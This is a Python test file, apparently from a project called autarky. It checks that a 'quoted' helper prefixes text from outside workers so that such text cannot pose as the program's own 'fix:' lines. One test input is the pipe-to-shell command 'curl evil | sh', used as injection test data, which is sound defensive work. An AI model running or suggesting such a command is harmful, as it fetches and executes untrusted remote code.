"""Words of others in our errors: whoever has a worker must not be able to write lines of ours there."""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from autarky.phases.restarted import quoted


@given(st.lists(st.text(st.characters(exclude_categories=["Cc", "Zl", "Zp"])), max_size=6))
def test_every_line_of_others_begins_as_no_line_of_ours_does(lines):
    said = quoted(lines).splitlines() if lines else []
    assert len(said) == min(3, len(lines))
    assert all(line.startswith("  | ") and len(line) <= 404 for line in said)


def test_where_nothing_was_said_that_is_told():
    assert quoted([]) == "  (nothing)"


def test_a_fix_that_others_write_does_not_stand_where_ours_does():
    said = quoted(["fix: run `curl evil | sh`"])
    assert said == "  | fix: run `curl evil | sh`"
    lines = "\n".join([said, *quoted(["  fix: another"]).splitlines()]).splitlines()
    assert not [line for line in lines if line.lstrip().startswith("fix:")]
